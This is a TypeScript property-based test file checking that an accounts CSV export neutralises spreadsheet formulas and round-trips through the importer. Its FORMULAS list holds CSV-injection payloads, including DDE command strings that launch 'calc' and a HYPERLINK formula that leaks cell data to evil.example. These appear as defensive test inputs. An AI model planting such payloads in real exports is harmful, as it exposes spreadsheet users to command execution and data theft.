import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { CustomerAccount } from "../../../api/settings.ts";
import { csvCells, SPREADSHEET_EVALUATES } from "../../../ui/csv/csv-cells-test-support.ts";
import { parseAccountsCsv } from "./accounts-csv.ts";
import { writeAccountsCsv } from "./accounts-csv-export.ts";

/** Names an attacker could give an account, as the API stores them (trimmed). */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "=1+1\t",
  "'=1+1",
  "''@x",
] as const;

describe("writeAccountsCsv", () => {
  it("writes the header and each account, a formula kept text and a name beyond ASCII as it is", () => {
    const accounts: CustomerAccount[] = [
      { domain: "fabrikam.com", name: "Fabrikam, Inc.", openPipeline: 2_000_000 },
      { domain: "evil.example", name: "=cmd|' /C calc'!A0", openPipeline: 0 },
      { domain: "muller.example", name: "Müller & Söhne 株式会社", openPipeline: 1_250_000.5 },
    ];
    expect(writeAccountsCsv(accounts)).toBe(
      [
        "\uFEFFdomain,name,openPipeline",
        'fabrikam.com,"Fabrikam, Inc.",2000000',
        "evil.example,\"'=cmd|' /C calc'!A0\",0",
        "muller.example,Müller & Söhne 株式会社,1250000.5",
        "",
      ].join("\r\n"),
    );
  });

  it("writes only the header when there are no accounts", () => {
    expect(writeAccountsCsv([])).toBe("\uFEFFdomain,name,openPipeline\r\n");
  });

  it("is read back by the import as the same accounts, and hands a spreadsheet no formula", () => {
    const name = fc
      .oneof(
        fc.constantFrom(...FORMULAS),
        fc.string({ unit: "grapheme", minLength: 1, maxLength: 60 }),
        fc
          .array(fc.constantFrom("'", '"', ",", " ", "=", "+", "-", "@", "\t", "\r", "\n", "x", "é", "中"), {
            minLength: 1,
            maxLength: 12,
          })
          .map((parts) => parts.join("")),
      )
      .map((text) => text.trim())
      .filter((text) => text !== "" && text.length <= 200);
    const account = fc.record({
      domain: fc.stringMatching(/^[a-z0-9-]{1,12}(\.[a-z0-9-]{1,8}){1,3}$/),
      name,
      openPipeline: fc.oneof(
        fc.integer({ min: 0, max: 1e12 }),
        fc.double({ min: 0, noNaN: true, noDefaultInfinity: true }),
      ),
    });
    fc.assert(
      fc.property(
        fc.uniqueArray(account, { selector: (a) => a.domain, minLength: 1, maxLength: 20 }),
        (accounts) => {
          const csv = writeAccountsCsv(accounts);
          expect(parseAccountsCsv(csv)).toEqual({ ok: true, accounts });
          const records = csvCells(csv);
          expect(records).toHaveLength(accounts.length + 1);
          expect(records.flat().filter((cell) => SPREADSHEET_EVALUATES.test(cell))).toEqual([]);
        },
      ),
    );
  });
});
